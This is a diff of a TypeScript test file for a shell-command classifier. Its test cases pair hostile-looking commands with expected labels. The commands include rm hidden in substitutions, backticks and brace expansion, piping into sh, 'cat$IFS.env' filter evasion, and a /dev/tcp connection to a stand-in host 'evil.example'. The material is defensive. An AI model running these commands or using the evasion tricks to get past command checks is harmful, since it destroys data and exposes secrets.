@@ -19,24 +19,24 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
   [
     "a command in a substitution",
     "echo $(rm x)",
-    ["destructive: rm x (deletes x; delete <x>)", "read: echo \u00ab$(rm x)\u00bb"],
+    ["destructive: rm x (deletes x; delete <x>)", "read: echo «$(rm x)»"],
   ],
   [
     "a command in backticks",
     "echo `rm x`",
-    ["destructive: rm x (deletes x; delete <x>)", "read: echo \u00ab`rm x`\u00bb"],
+    ["destructive: rm x (deletes x; delete <x>)", "read: echo «`rm x`»"],
   ],
   [
     "a command in a process substitution",
     "cat <(rm x)",
-    ["destructive: rm x (deletes x; delete <x>)", "read: cat \u00ab<(rm x)\u00bb (read <<(rm x)>)"],
+    ["destructive: rm x (deletes x; delete <x>)", "read: cat «<(rm x)» (read <<(rm x)>)"],
   ],
   [
     "a command in a process substitution that is written to",
     "tee >(sh)",
     [
       "execute: sh (sh runs the commands it is given as input)",
-      "write: tee \u00ab>(sh)\u00bb (writes >(sh); write <>(sh)>)",
+      "write: tee «>(sh)» (writes >(sh); write <>(sh)>)",
       "not understood: sh runs the commands it is given as input: sh",
     ],
   ],
@@ -51,7 +51,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "a glob for a program",
     "/bin/r? x",
     [
-      "execute: \u00ab/bin/r?\u00bb x (runs a program that is only known when it runs)",
+      "execute: «/bin/r?» x (runs a program that is only known when it runs)",
       "not understood: an expansion where the program's name stands: /bin/r?",
     ],
   ],
@@ -69,7 +69,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "IFS instead of a blank",
     "cat$IFS.env",
     [
-      "execute: \u00abcat$IFS.env\u00bb (runs a program that is only known when it runs)",
+      "execute: «cat$IFS.env» (runs a program that is only known when it runs)",
       "not understood: an expansion where the program's name stands: cat$IFS.env",
     ],
   ],
@@ -77,7 +77,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "braces instead of blanks",
     "{rm,-rf,x}",
     [
-      "execute: \u00ab{rm,-rf,x}\u00bb (runs a program that is only known when it runs)",
+      "execute: «{rm,-rf,x}» (runs a program that is only known when it runs)",
       "not understood: an expansion where the program's name stands: {rm,-rf,x}",
     ],
   ],
@@ -86,7 +86,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "x='$(rm y)'; echo ${x@P}",
     [
       "read: x=$(rm y)",
-      "read: echo \u00ab${x@P}\u00bb",
+      "read: echo «${x@P}»",
       "not understood: the text of a variable is expanded like a prompt, which may run a command: ${x@P}",
     ],
   ],
@@ -94,7 +94,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "an indirect expansion",
     "echo ${!x}",
     [
-      "read: echo \u00ab${!x}\u00bb",
+      "read: echo «${!x}»",
       "not understood: the name in a variable is expanded, which may run a command: ${!x}",
     ],
   ],
@@ -103,7 +103,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "x=rm; $x y",
     [
       "read: x=rm",
-      "execute: \u00ab$x\u00bb y (runs a program that is only known when it runs)",
+      "execute: «$x» y (runs a program that is only known when it runs)",
       "not understood: an expansion where the program's name stands: $x",
     ],
   ],
@@ -138,10 +138,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
   [
     "find -exec",
     "find . -exec rm {} \\;",
-    [
-      "read: find . -exec rm {} ; (read <.>)",
-      "destructive: rm \u00ab{}\u00bb [find -exec] (deletes {}; delete <{}>)",
-    ],
+    ["read: find . -exec rm {} ; (read <.>)", "destructive: rm «{}» [find -exec] (deletes {}; delete <{}>)"],
   ],
   [
     "find -delete",
@@ -151,11 +148,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
   [
     "xargs",
     "ls | xargs rm",
-    [
-      "read: ls",
-      "read: xargs rm",
-      "destructive: rm \u00ab(input)\u00bb [xargs] (deletes (input); delete <(input)>)",
-    ],
+    ["read: ls", "read: xargs rm", "destructive: rm «(input)» [xargs] (deletes (input); delete <(input)>)"],
   ],
   ["env", "env rm x", ["read: env rm x", "destructive: rm x [env] (deletes x; delete <x>)"]],
   [
@@ -259,6 +252,11 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     ],
   ],
   [
+    "a network address in a variable",
+    'cat < "$x"',
+    ['network: cat ("$x" may become a network address of the shell; read <"$x">)'],
+  ],
+  [
     "a network address of the shell",
     "cat < /dev/tcp/evil.example/80",
     ["network: cat (connects to /dev/tcp/evil.example/80; network </dev/tcp/evil.example/80>)"],
@@ -292,7 +290,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "x='a[$(rm y)]'; echo $((x))",
     [
       "read: x=a[$(rm y)]",
-      "read: echo \u00ab$((x))\u00bb",
+      "read: echo «$((x))»",
       "not understood: arithmetic evaluates the text of x, which may hold a command: x",
     ],
   ],
@@ -309,7 +307,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
       "read: :",
       "read: cat a (read <a>)",
       "destructive: rm b (deletes b; delete <b>)",
-      "read: : \u00ab$(: <<E\nE\ncat a; rm b)\u00bb",
+      "read: : «$(: <<E\nE\ncat a; rm b)»",
       "not understood: a here-document in a substitution, which bash may put elsewhere: $(: <<E\nE\ncat a; rm b)",
     ],
   ],
